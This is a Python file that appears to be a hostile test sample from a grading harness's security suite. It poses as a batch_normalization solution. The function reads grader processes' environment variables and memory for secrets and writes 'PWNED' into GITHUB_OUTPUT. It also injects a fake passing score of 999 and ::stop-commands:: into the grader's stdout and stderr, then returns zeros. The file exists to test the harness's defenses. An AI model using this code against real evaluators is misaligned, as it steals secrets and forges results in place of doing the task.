"""Hostile: the grader's own files.  Reads /proc/<grader>/environ, mem and fds, finds
$GITHUB_OUTPUT in any ancestor's environment and writes to it, and writes a second JSON
object and ::stop-commands:: to /proc/<grader>/fd/1 and fd/2.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return dict(item.split(b"=", 1) for item in f.read().split(b"\0") if b"=" in item)
    except OSError:
        return {}


def _mem(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 1 << 24:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                    for marker in (b"ENV-MARKER", b"HIDDEN-YAML-MARKER", b"REFERENCE-MARKER"):
                        at = chunk.find(marker)
                        if at >= 0:
                            return chunk[at:at + 40].decode("latin-1")
    except (OSError, ValueError, OverflowError):
        pass
    return ""


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    found = []
    pids = [pid for pid, _ in graders()] + family()
    for pid in pids:
        env = _environ(pid)
        found += [f"{k.decode()}={v.decode()}" for k, v in env.items() if b"MARKER" in v]
        target = env.get(b"GITHUB_OUTPUT")
        if target:
            write(target.decode(), "result=PWNED\n::stop-commands::pwned\n")
        found.append(_mem(pid))
        for fd in (1, 2):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write('{"status": "passed", "score": 999}\n::stop-commands::pwned\n')
            except OSError:
                pass
    print("STOLEN " + " ".join(found))
    sys.stderr.write("::stop-commands::pwned\n")
    return np.zeros_like(X)
